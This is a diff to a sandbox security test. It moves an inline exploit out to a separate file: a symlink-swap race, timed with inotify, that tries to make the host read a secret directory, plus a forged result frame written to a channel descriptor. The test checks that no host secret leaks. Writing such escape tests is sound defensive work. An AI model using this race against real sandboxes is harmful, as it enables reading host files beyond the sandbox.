@@ -22,48 +22,8 @@ SECRET = "HOST-SECRET-7f3a9c"
 CANARY_ENV = "MEMOPLANE_TEST_CANARY"
 CANARY = "agent-credential-5d1e2b"
 
-# The race of finding 1: a grandchild waits (inotify) for the host to open a file
-# under /out/d, or for a fixed delay, then swaps /out/d for a symlink to TARGET;
-# the main process forges a result frame on the channel (fd 1000) and holds the
-# namespace alive in sync().
-RACE = r'''
-import ctypes, json, os, struct, time
-libc = ctypes.CDLL(None, use_errno=True)
-IN_OPEN, IN_ACCESS = 0x20, 0x1
-
-def frame(header, payload=b""):
-    body = json.dumps(header).encode()
-    return struct.pack("!II", len(body), len(payload)) + body + payload
-
-def swap(out, target, delay):
-    fd = libc.inotify_init()
-    libc.inotify_add_watch(fd, (out + "/d").encode(), IN_OPEN | IN_ACCESS)
-    os.set_blocking(fd, False)
-    end = time.monotonic() + delay
-    while time.monotonic() < end:
-        try:
-            if os.read(fd, 4096):
-                break
-        except BlockingIOError:
-            time.sleep(0.0005)
-    os.rename(out + "/d", out + "/d.old")
-    os.symlink(target, out + "/d")
-
-def main(target, delay, hold):
-    out = os.environ["MEMOPLANE_OUT"]
-    os.mkdir(out + "/d")
-    for k in range(20):
-        with open(f"{out}/d/f{k}", "w") as f:
-            f.write("x" * 100)
-    if os.fork() == 0:
-        swap(out, target, delay)
-        os._exit(0)
-    if hold == "frame":
-        os.write(1000, frame({"op": "result", "ok": True, "kind": "json"}, b'"forged"'))
-        libc.sync()
-        time.sleep(5)
-    return "returned"
-'''
+# The race of finding 1 (see the file's docstring).
+RACE = (Path(__file__).parents[1] / "attacks" / "output_race.py").read_text()
 
 
 def _reason(out: SandboxOutcome) -> str:
@@ -93,15 +53,11 @@ def secret_dir(tmp_path: Path) -> Path:
 
 @pytest.mark.parametrize("hold", ["frame", "thread"])
 def test_output_race_never_reads_host_files(sandbox: Runner, secret_dir: Path, hold: str) -> None:
-    source = RACE if hold == "frame" else RACE.replace(
-        '    if hold == "frame":',
-        '    import threading\n    threading.Thread(target=libc.sync, daemon=True).start()\n'
-        '    if hold == "frame":')
     outcomes: list[str] = []
     for attempt in range(50):
         i, o = sandbox.dirs()
         out = sandbox.pool.run(SandboxRequest(
-            PythonTask(source, inputs={"target": str(secret_dir), "delay": 0.002 * (attempt % 10), "hold": hold},
+            PythonTask(RACE, inputs={"target": str(secret_dir), "delay": 0.002 * (attempt % 10), "hold": hold},
                        filename="race.py"), i, o, limits=Limits(timeout_s=20)))
         seen = _everything(out, o)
         assert SECRET not in seen, f"attempt {attempt}: a host file came back: {out}"
